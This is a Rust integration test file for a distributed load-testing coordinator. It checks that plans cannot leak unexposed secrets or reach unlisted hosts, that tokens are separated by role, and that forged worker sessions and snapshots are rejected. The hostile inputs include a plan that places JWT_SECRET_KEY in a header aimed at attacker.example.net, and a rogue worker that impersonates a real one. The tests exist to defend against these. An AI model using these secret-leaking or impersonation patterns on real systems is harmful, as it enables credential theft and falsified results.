//! A fleet only its operators can steer: a submitted plan cannot read what the worker's
//! operator did not expose (the fleet's token never) nor aim where it did not allow; a worker's
//! token cannot submit runs when a submit token is set; nobody can speak for a worker without
//! its session key; a snapshot for a share the sender does not hold is refused and never merged.

#![allow(clippy::unwrap_used)]

use std::time::Duration;

use gauntlet_coordinator::{Coordinator, CoordinatorConfig};
use gauntlet_core::report::Verdict;
use gauntlet_proto::v1::control_service_client::ControlServiceClient;
use gauntlet_proto::v1::worker_service_client::WorkerServiceClient;
use gauntlet_proto::v1::{self, worker_message};
use gauntlet_worker::access::Access;
use tokio_util::sync::CancellationToken;

mod common;
use common::{coordinator, run, sleepy, wait_for_workers, worker_with};

/// A sleepy plan whose header reads `{env:NAME}`, aimed at `target`.
fn leaky(name: &str, target: &str) -> String {
    sleepy("vus = 1\niterations = 1", "")
        .replace("http://127.0.0.1:9", target)
        .replace(
            "[load]",
            &format!("headers = {{ \"X-Leak\" = \"{{env:{name}}}\" }}\n[load]"),
        )
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_plan_cannot_read_unexposed_secrets_or_aim_at_unlisted_hosts() {
    let (url, _stop) = coordinator().await;
    // Defaults: no variable exposed, loopback only.
    let _w = worker_with(&url, "default", Access::default());
    wait_for_workers(&url, 1).await;
    let r = run(&url, leaky("JWT_SECRET_KEY", "http://127.0.0.1:9"), 1).await;
    assert_eq!(r.verdict, Verdict::Error);
    assert!(
        r.verdict_reason
            .contains("does not expose environment variable `JWT_SECRET_KEY`"),
        "{}",
        r.verdict_reason
    );
    assert_eq!(r.totals.sessions, 0, "refused before any traffic");

    // The compose settings: JWT_SECRET_KEY exposed, the testbed allowed.
    let (url, _stop) = coordinator().await;
    let _w = worker_with(
        &url,
        "compose",
        Access::new(&["JWT_SECRET_KEY".into()], &[], &["testbed", "127.0.0.0/8"]).unwrap(),
    );
    wait_for_workers(&url, 1).await;
    let r = run(&url, leaky("GAUNTLET_TOKEN", "http://127.0.0.1:9"), 1).await;
    assert!(
        r.verdict_reason
            .contains("does not expose environment variable `GAUNTLET_TOKEN`"),
        "{}",
        r.verdict_reason
    );
    let r = run(
        &url,
        leaky("JWT_SECRET_KEY", "http://attacker.example.net:80"),
        1,
    )
    .await;
    assert_eq!(r.verdict, Verdict::Error);
    assert!(
        r.verdict_reason
            .contains("does not send traffic to `attacker.example.net`"),
        "{}",
        r.verdict_reason
    );
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_workers_token_cannot_submit_runs() {
    let stop = CancellationToken::new();
    let (addr, _) = Coordinator::new(CoordinatorConfig::default(), stop.clone())
        .with_token(Some("worker-secret".into()))
        .with_submit_token(Some("submit-secret".into()))
        .start("127.0.0.1:0".parse().unwrap())
        .await
        .unwrap();
    let url = format!("http://{addr}");
    let channel = gauntlet_proto::auth::endpoint(&url, None)
        .unwrap()
        .connect()
        .await
        .unwrap();
    let control = |token: &str| {
        ControlServiceClient::with_interceptor(
            channel.clone(),
            gauntlet_proto::auth::attach_token(Some(token.into())),
        )
    };
    let submit = v1::SubmitRunRequest {
        plan_toml: sleepy("vus = 1\niterations = 1", ""),
        plan_file: "p.toml".into(),
        ..v1::SubmitRunRequest::default()
    };
    let refused = control("worker-secret")
        .submit_run(submit.clone())
        .await
        .unwrap_err();
    assert_eq!(refused.code(), tonic::Code::Unauthenticated);
    let refused = control("worker-secret")
        .list_runs(v1::ListRunsRequest {})
        .await
        .unwrap_err();
    assert_eq!(refused.code(), tonic::Code::Unauthenticated);
    control("submit-secret")
        .list_runs(v1::ListRunsRequest {})
        .await
        .unwrap();
    // And the submit token does not make a worker.
    let mut workers = WorkerServiceClient::with_interceptor(
        channel.clone(),
        gauntlet_proto::auth::attach_token(Some("submit-secret".into())),
    );
    let refused = workers
        .register(v1::RegisterRequest {
            name: "x".into(),
            protocol: gauntlet_proto::PROTOCOL_VERSION,
            ..v1::RegisterRequest::default()
        })
        .await
        .unwrap_err();
    assert_eq!(refused.code(), tonic::Code::Unauthenticated);
    stop.cancel();
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_snapshot_for_a_share_the_sender_does_not_hold_is_refused() {
    let (url, _stop) = coordinator().await;
    let _real = worker_with(&url, "real", Access::open());
    wait_for_workers(&url, 1).await;
    let url2 = url.clone();
    let report =
        tokio::spawn(async move { run(&url2, sleepy("vus = 2\nduration = \"2s\"", ""), 1).await });
    // The run is under way (the real worker holds its only share): a rogue registers and
    // reports for it, with absurd counts.
    let mut control = ControlServiceClient::connect(url.clone()).await.unwrap();
    let mut polls = 0;
    let run_id = loop {
        polls += 1;
        assert!(polls < 500, "the run never started");
        let runs = control
            .list_runs(v1::ListRunsRequest {})
            .await
            .unwrap()
            .into_inner()
            .runs;
        if let Some(r) = runs.iter().find(|r| r.state == "running") {
            break r.run_id.clone();
        }
        tokio::time::sleep(Duration::from_millis(20)).await;
    };
    // It knows the real worker's id (ids are in reports): claiming it gets a new identity,
    // and speaking for it without its session key is refused.
    let real = control
        .list_workers(v1::ListWorkersRequest {})
        .await
        .unwrap()
        .into_inner()
        .workers[0]
        .worker_id
        .clone();
    let mut client = WorkerServiceClient::connect(url.clone()).await.unwrap();
    let id = client
        .register(v1::RegisterRequest {
            name: "rogue".into(),
            capacity: 1,
            protocol: gauntlet_proto::PROTOCOL_VERSION,
            worker_id: real.clone(),
            ..v1::RegisterRequest::default()
        })
        .await
        .unwrap()
        .into_inner();
    assert_ne!(id.worker_id, real);
    let (tx_forged, rx_forged) = tokio::sync::mpsc::channel(1);
    tx_forged
        .send(v1::WorkerMessage {
            kind: Some(worker_message::Kind::Hello(v1::Hello {
                worker_id: real.clone(),
                session_key: id.session_key.clone(),
            })),
        })
        .await
        .unwrap();
    let refused = client
        .session(tokio_stream::wrappers::ReceiverStream::new(rx_forged))
        .await
        .unwrap_err();
    assert_eq!(refused.code(), tonic::Code::PermissionDenied);
    let (tx, rx) = tokio::sync::mpsc::channel(16);
    tx.send(v1::WorkerMessage {
        kind: Some(worker_message::Kind::Hello(v1::Hello {
            worker_id: id.worker_id,
            session_key: id.session_key,
        })),
    })
    .await
    .unwrap();
    let _inbound = client
        .session(tokio_stream::wrappers::ReceiverStream::new(rx))
        .await
        .unwrap()
        .into_inner();
    let mut forged = gauntlet_core::metrics::Snapshot::default();
    forged.counters.sessions_started = 1_000_000_000_000;
    forged.counters.sessions_passed = 1_000_000_000_000;
    for seq in [1, 2, 1 << 32] {
        let wire = gauntlet_proto::snapshot_to_proto(&forged, &run_id, seq, 500, 0);
        tx.send(v1::WorkerMessage {
            kind: Some(worker_message::Kind::Snapshot(wire)),
        })
        .await
        .unwrap();
    }
    let r = report.await.unwrap();
    assert_eq!(r.verdict, Verdict::Pass, "{}", r.verdict_reason);
    // 2 VUs x 2 s of 100 ms naps: about 40 sessions, never a forged trillion.
    assert!(r.totals.sessions < 100, "{:?}", r.totals);
    assert_eq!(r.workers.len(), 1);
}
